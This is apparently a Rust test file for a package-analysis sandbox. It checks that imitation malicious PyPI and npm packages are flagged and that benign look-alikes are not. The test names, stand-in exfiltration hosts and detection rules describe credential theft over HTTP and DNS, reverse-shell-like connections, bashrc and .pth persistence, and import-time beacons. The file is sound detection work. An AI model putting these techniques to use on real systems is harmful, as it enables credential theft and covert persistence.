/// The import-time beacon: `GET <prefix><hostname>` to `host`, in the import phase
/// only.
fn assert_import_beacon(r: &Value, host: &str, prefix: &str) {
    let import = &r["dynamic"]["import"];
    assert!(
        dns_names(import).iter().any(|(n, _)| n == host),
        "{:#?}",
        dns_names(import)
    );
    let conn = connection_to(import, host);
    assert_eq!(conn["port"], 80);
    assert_eq!(conn["kind"], "http");
    let req = &conn["http"][0];
    assert_eq!(req["method"], "GET", "{conn:#}");
    let path = req["path"].as_str().unwrap();
    let hostname = path
        .strip_prefix(prefix)
        .unwrap_or_else(|| panic!("beacon path {path:?}"));
    assert_plausible_hostname(hostname);
    let install = &r["dynamic"]["install"];
    assert!(
        !network(install, "connections")
            .iter()
            .any(|c| c["hostname"] == host),
        "the beacon is import-time only"
    );
}

// ---------------------------------------------------------------------------------
// PyPI sdist.
// ---------------------------------------------------------------------------------

on_both_backends! {
fn sdist_setup_py_steals_ssh_key_over_http() {
    let Some(r) = sdist("sdist_setup_py_steals_ssh_key_over_http") else {
        return;
    };
    assert_credential_theft_over_http(r, "setup.py");
}
}

on_both_backends! {
fn sdist_setup_py_steals_aws_key_id_over_dns_labels() {
    let Some(r) = sdist("sdist_setup_py_steals_aws_key_id_over_dns_labels") else {
        return;
    };
    assert_credential_theft_over_dns(r);
}
}

on_both_backends! {
fn sdist_setup_py_sends_id_output_to_raw_ip() {
    let Some(r) = sdist("sdist_setup_py_sends_id_output_to_raw_ip") else {
        return;
    };
    assert_reverse_shell_like(&r["dynamic"]["install"]);
}
}

on_both_backends! {
fn sdist_setup_py_runs_recon_commands() {
    let Some(r) = sdist("sdist_setup_py_runs_recon_commands") else {
        return;
    };
    let install = &r["dynamic"]["install"];
    assert_recon(install);
    // The parent is the build's Python running setup.py.
    let ppid = &process_with_exec(install, &["whoami"])["ppid"];
    let parent = array(install, "processes")
        .iter()
        .find(|p| p["pid"] == *ppid)
        .unwrap_or_else(|| panic!("no parent process {ppid}"));
    assert!(
        parent["command"][0]
            .as_str()
            .is_some_and(|c| c.contains("python")),
        "{parent:#}"
    );
}
}

on_both_backends! {
fn sdist_setup_py_persists_in_bashrc_and_a_pth_file_that_fires_later() {
    let Some(r) = sdist("sdist_setup_py_persists_in_bashrc_and_a_pth_file_that_fires_later") else {
        return;
    };
    let install = &r["dynamic"]["install"];
    assert_bashrc_persistence(install);
    let pth = array(install, "files")
        .iter()
        .find(|f| {
            f["path"].as_str().is_some_and(|p| {
                p.starts_with("/home/")
                    && p.ends_with("/.local/lib/python3.11/site-packages/imitation_persist.pth")
            })
        })
        .unwrap_or_else(|| panic!("no .pth written: {:#}", json!(array(install, "files"))));
    assert_eq!(pth["write"], true, "{pth:#}");
    assert_eq!(pth["create"], true, "{pth:#}");
    assert_eq!(pth["succeeded"], true, "{pth:#}");
    // Every later Python process runs the hook: the import phase touches its marker.
    let fired = expect_home_file(&r["dynamic"]["import"], ".imitation-pth-fired");
    assert_eq!(fired["write"], true, "{fired:#}");
    assert_eq!(fired["succeeded"], true, "{fired:#}");
}
}

on_both_backends! {
fn sdist_setup_py_daemon_outlives_the_phase_and_its_check_in_is_captured() {
    let Some(r) = sdist("sdist_setup_py_daemon_outlives_the_phase_and_its_check_in_is_captured")
    else {
        return;
    };
    assert_daemon_checked_in_and_outlived(
        &r["dynamic"]["install"],
        "python3",
        "# imitation-daemon",
    );
}
}

on_both_backends! {
fn sdist_module_beacons_at_import_with_the_host_name() {
    let Some(r) = sdist("sdist_module_beacons_at_import_with_the_host_name") else {
        return;
    };
    assert_import_beacon(r, "beacon.example.test", "/b?h=");
}
}

// ---------------------------------------------------------------------------------
// PyPI wheel.
// ---------------------------------------------------------------------------------

on_both_backends! {
fn wheel_install_runs_no_package_code_but_its_pth_and_module_fire_at_import() {
    let Some(r) = wheel("wheel_install_runs_no_package_code_but_its_pth_and_module_fire_at_import")
    else {
        return;
    };
    let install = &r["dynamic"]["install"];
    assert_eq!(install["exit_code"], 0, "{install:#}");
    // pip put the hook into the user site-packages …
    let pth = array(install, "files")
        .iter()
        .find(|f| {
            f["path"].as_str().is_some_and(|p| {
                p.ends_with("/.local/lib/python3.11/site-packages/imitation_beacon_hook.pth")
            })
        })
        .unwrap_or_else(|| {
            panic!(
                "pip did not install the .pth: {:#}",
                json!(array(install, "files"))
            )
        });
    assert_eq!(pth["write"], true, "{pth:#}");
    // … without any package code running: no traffic at install.
    assert_eq!(network(install, "dns"), &[] as &[Value]);
    assert_eq!(network(install, "connections"), &[] as &[Value]);
    // At import, the hook fires in every Python process and the module beacons.
    let fired = expect_home_file(&r["dynamic"]["import"], ".imitation-wheel-pth-fired");
    assert_eq!(fired["write"], true, "{fired:#}");
    assert_eq!(fired["succeeded"], true, "{fired:#}");
    assert_import_beacon(r, "wheel-beacon.example.test", "/w?h=");
}
}

// ---------------------------------------------------------------------------------
// npm tarball.
// ---------------------------------------------------------------------------------

on_both_backends! {
fn npm_postinstall_steals_ssh_key_over_http_and_aws_key_id_over_dns() {
    let Some(r) = npm("npm_postinstall_steals_ssh_key_over_http_and_aws_key_id_over_dns") else {
        return;
    };
    let install = &r["dynamic"]["install"];
    assert_credential_theft_over_http(r, "postinstall");
    assert_credential_theft_over_dns(r);
    // npm ran the script the way it does: `sh -c "node install.js"`.
    let sh = process_with_exec(install, &["sh", "-c", "node install.js"]);
    let node = process_with_exec(install, &["node", "install.js"]);
    assert!(
        node["ppid"] == sh["pid"] || node["pid"] == sh["pid"],
        "{node:#} {sh:#}"
    );
    assert!(
        node["cwd"]
            .as_str()
            .is_some_and(|c| c.ends_with("/node_modules/imitation-stealer-npm")),
        "{node:#}"
    );
}
}

on_both_backends! {
fn npm_postinstall_sends_id_output_to_raw_ip_and_runs_recon() {
    let Some(r) = npm("npm_postinstall_sends_id_output_to_raw_ip_and_runs_recon") else {
        return;
    };
    let install = &r["dynamic"]["install"];
    assert_reverse_shell_like(install);
    assert_recon(install);
}
}

on_both_backends! {
fn npm_postinstall_appends_to_bashrc() {
    let Some(r) = npm("npm_postinstall_appends_to_bashrc") else {
        return;
    };
    assert_bashrc_persistence(&r["dynamic"]["install"]);
}
}

on_both_backends! {
fn npm_postinstall_daemons_one_captured_one_killed_before_acting() {
    let Some(r) = npm("npm_postinstall_daemons_one_captured_one_killed_before_acting") else {
        return;
    };
    let install = &r["dynamic"]["install"];
    assert_daemon_checked_in_and_outlived(install, "node", "/*imitation-daemon*/");
    // The second daemon would act 30 s later: the end of the phase killed it first.
    let sleeper = process_with_arg(install, "node", "/*imitation-sleeper*/");
    assert_eq!(sleeper["outlived_main"], true, "{sleeper:#}");
    assert_eq!(sleeper["killed_at_end"], true, "{sleeper:#}");
    assert!(
        !dns_names(install)
            .iter()
            .any(|(n, _)| n == "never.exfil.example.test"),
        "the killed daemon cannot have acted"
    );
    let ms = install["duration_ms"].as_u64().unwrap();
    assert!(
        ms < 15_000,
        "the phase ended with its main process: {ms} ms"
    );
}
}

on_both_backends! {
fn npm_main_beacons_when_required() {
    let Some(r) = npm("npm_main_beacons_when_required") else {
        return;
    };
    assert_import_beacon(r, "beacon.example.test", "/n?h=");
}
}

// ---------------------------------------------------------------------------------
// Verdicts: the imitations are malicious for what they did; the look-alikes benign.
// ---------------------------------------------------------------------------------

fn rules_of(r: &Value) -> std::collections::BTreeSet<String> {
    r["findings"]
        .as_array()
        .unwrap_or_else(|| panic!("no findings: {r:#}"))
        .iter()
        .filter_map(|f| f["rule"].as_str().map(str::to_owned))
        .collect()
}

fn categories_of(r: &Value) -> std::collections::BTreeSet<String> {
    r["findings"]
        .as_array()
        .unwrap_or_else(|| panic!("no findings: {r:#}"))
        .iter()
        .filter_map(|f| f["category"].as_str().map(str::to_owned))
        .collect()
}

/// `malicious`, with at least `rules` among the findings and `categories` among their
/// categories; with honeytokens planted, the exfiltration is proof (score 10).
fn assert_malicious(r: &Value, rules: &[&str], categories: &[&str]) {
    assert_eq!(r["verdict"], "malicious", "{:#}", r["findings"]);
    let found = rules_of(r);
    for rule in rules {
        assert!(found.contains(*rule), "{rule} missing: {found:?}");
    }
    let cats = categories_of(r);
    for c in categories {
        assert!(cats.contains(*c), "category {c} missing: {cats:?}");
    }
}

/// The install-time behaviours the sdist and the npm package share.
const STEALER_RULES: &[&str] = &[
    "DYN-INSTALL-IMPORT-NETWORK",
    "DYN-RAW-IP-CONNECT",
    "DYN-DNS-TUNNEL",
    "DYN-PERSISTENCE-WRITE",
    "DYN-OUTLIVES-PHASE",
    "DYN-RECON-COMMANDS",
    "DYN-HOOK-SPAWNS-SHELL",
];
const STEALER_CATEGORIES: &[&str] = &[
    "network",
    "exfiltration",
    "persistence",
    "execution",
    "reconnaissance",
];

fn assert_stealer_proof(r: &Value) {
    if planted(r, |_| true).is_some() {
        let found = rules_of(r);
        assert!(found.contains("DYN-HONEYTOKEN-READ"), "{found:?}");
        assert!(found.contains("DYN-HONEYTOKEN-EGRESS"), "{found:?}");
        assert!(categories_of(r).contains("credential-access"));
        assert_eq!(r["score"], 10.0, "proof outweighs everything");
    } else {
        eprintln!("NOTE: no honeytokens planted; no proof of exfiltration to check");
    }
    // The credential upload is linked to the static call site that made it.
    let upload = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| {
            f["rule"] == "DYN-INSTALL-IMPORT-NETWORK"
                && f["evidence"]["snippet"]
                    .as_str()
                    .is_some_and(|s| s.contains("creds.exfil.example.test"))
        })
        .unwrap_or_else(|| panic!("no finding for the upload: {:#}", r["findings"]));
    assert!(upload["evidence"]["file"].is_string(), "{upload:#}");
    assert!(
        upload["notes"]
            .as_array()
            .is_some_and(|n| n.iter().any(|n| n
                .as_str()
                .is_some_and(|n| n.starts_with("made by the code at")))),
        "{upload:#}"
    );
}

on_both_backends! {
fn sdist_verdict_is_malicious_with_every_behaviour_explained() {
    let Some(r) = sdist("sdist_verdict_is_malicious_with_every_behaviour_explained") else {
        return;
    };
    assert_malicious(r, STEALER_RULES, STEALER_CATEGORIES);
    assert_stealer_proof(r);
}
}

on_both_backends! {
fn npm_verdict_is_malicious_with_every_behaviour_explained() {
    let Some(r) = npm("npm_verdict_is_malicious_with_every_behaviour_explained") else {
        return;
    };
    assert_malicious(r, STEALER_RULES, STEALER_CATEGORIES);
    assert_stealer_proof(r);
}
}

on_both_backends! {
fn wheel_verdict_is_malicious_for_its_import_time_beacon_and_pth_hook() {
    let Some(r) = wheel("wheel_verdict_is_malicious_for_its_import_time_beacon_and_pth_hook")
    else {
        return;
    };
    assert_malicious(
        r,
        &["DYN-INSTALL-IMPORT-NETWORK", "DYN-WRITE-OUTSIDE-PACKAGE"],
        &["network", "persistence"],
    );
    // No package code ran at install: nothing there to judge.
    assert!(
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["evidence"]["event"]["phase"] != "install"),
        "{:#}",
        r["findings"]
    );
}
}

/// `benign`, and not one behaviour finding.
fn assert_benign_behaviour(r: &Value) {
    let dynamic: Vec<&Value> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().is_some_and(|id| id.starts_with("DYN-")))
        .collect();
    assert!(dynamic.is_empty(), "{dynamic:#?}");
    assert_eq!(r["verdict"], "benign", "{:#}", r["findings"]);
}

on_both_backends! {
fn benign_postinstall_thank_you_stays_benign() {
    let Some(runtime) = runtime_or_skip("benign_postinstall_thank_you_stays_benign") else {
        return;
    };
    let r = THANKS[backend_index()].get_or_init(|| run_analysis(&runtime, thanks_npm, "thanks"));
    // npm ran the hook: the shell is there, and it is not a finding.
    process_with_exec(
        &r["dynamic"]["install"],
        &["sh", "-c", "echo 'Thank you for using thanks-postinstall!'"],
    );
    assert_benign_behaviour(r);
}
}

on_both_backends! {
fn benign_native_addon_build_stays_benign() {
    let Some(runtime) = runtime_or_skip("benign_native_addon_build_stays_benign") else {
        return;
    };
    let r = ADDON[backend_index()].get_or_init(|| run_analysis(&runtime, addon_npm, "addon"));
    let install = &r["dynamic"]["install"];
    // The build really ran: its tool, and its output in the package's own directory.
    let compile = process_with_arg(install, "python3", "py_compile");
    assert_eq!(compile["exit_code"], 0, "{compile:#}");
    assert!(
        array(install, "files")
            .iter()
            .any(|f| f["path"].as_str().is_some_and(
                |p| p.ends_with("/node_modules/native-addon-lookalike/build/Release/addon.js")
            ) && f["write"] == true),
        "{:#}",
        json!(array(install, "files"))
    );
    assert_benign_behaviour(r);
}
}

on_both_backends! {
fn benign_platform_check_stays_benign() {
    let Some(runtime) = runtime_or_skip("benign_platform_check_stays_benign") else {
        return;
    };
    let r = PLATFORM[backend_index()].get_or_init(|| run_analysis(&runtime, platform_npm, "platform"));
    process_with_exec(&r["dynamic"]["install"], &["node", "check.js"]);
    assert_benign_behaviour(r);
}
}

on_both_backends! {
fn benign_library_with_a_socket_only_when_called_stays_benign_at_import() {
    let Some(runtime) =
        runtime_or_skip("benign_library_with_a_socket_only_when_called_stays_benign_at_import")
    else {
        return;
    };
    let r = LAZY[backend_index()].get_or_init(|| run_analysis(&runtime, lazy_socket_sdist, "lazy-socket"));
    let import = &r["dynamic"]["import"];
    assert_eq!(network(import, "connections"), &[] as &[Value]);
    assert_eq!(network(import, "dns"), &[] as &[Value]);
    assert_benign_behaviour(r);
}
}
